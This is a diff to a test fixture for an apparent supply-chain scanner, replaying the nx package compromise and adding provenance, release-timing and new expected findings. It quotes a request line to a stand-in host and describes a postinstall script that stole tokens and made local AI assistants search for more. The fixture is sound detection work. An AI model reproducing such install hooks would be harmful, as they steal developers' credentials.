@@ -61,17 +61,24 @@ const alsoInTelemetry = {
   line: "const request = https.request({ hostname: 'api.git.example', path, method, headers })",
 } as const
 
+/** By the project's own workflow, of which the stolen token knew nothing. */
+const built = { repository: 'nrwl/nx', workflow: '.github/workflows/publish.yml', ref: 'refs/heads/master' }
+
 export const replay: Replay = replayUpgrade({
   description:
     'A stolen token released nx with a script after installation that gathered the environment, the npm settings and the GitHub token of ' +
-    'whoever installed it, had assistants on the machine look for more without asking, and put it all into a public repository.',
+    'whoever installed it, had assistants on the machine look for more without asking, and put it all into a public repository. ' +
+    'Two lines came out within minutes, and without the provenance that releases had had.',
   date: '2025-08-26',
+  reviewedAt: '2025-08-27T08:00:00Z',
   name: 'nx',
   from: [
     '21.4.1',
     {
       manifest: { scripts: { postinstall: 'node notice.js' } },
       files: { 'index.js': compiledQueue, 'notice.js': notice },
+      published: '2025-08-21T15:00:00Z',
+      provenance: built,
     },
   ],
   to: [
@@ -79,8 +86,13 @@ export const replay: Replay = replayUpgrade({
     {
       manifest: { scripts: { postinstall: 'node telemetry.js' } },
       files: { 'index.js': compiledQueue, 'telemetry.js': telemetry },
+      published: '2025-08-26T22:32:00Z',
     },
   ],
+  beside: {
+    '20.8.2': { files: { 'index.js': compiledQueue }, published: '2025-06-12T15:00:00Z', provenance: built },
+    '20.9.0': { files: { 'index.js': compiledQueue, 'telemetry.js': telemetry }, published: '2025-08-26T22:39:00Z' },
+  },
   findings: [
     ['combined-risk', 'critical'],
     ['install-script-dangerous', 'critical', inTelemetry],
@@ -109,5 +121,8 @@ export const replay: Replay = replayUpgrade({
     ],
     ['install-script-changed', 'medium', { file: 'package.json' }],
     ['network-host-added', 'medium', alsoInTelemetry],
+    ['provenance-lost', 'high'],
+    ['release-burst', 'high'],
+    ['release-fresh', 'medium'],
   ],
 })
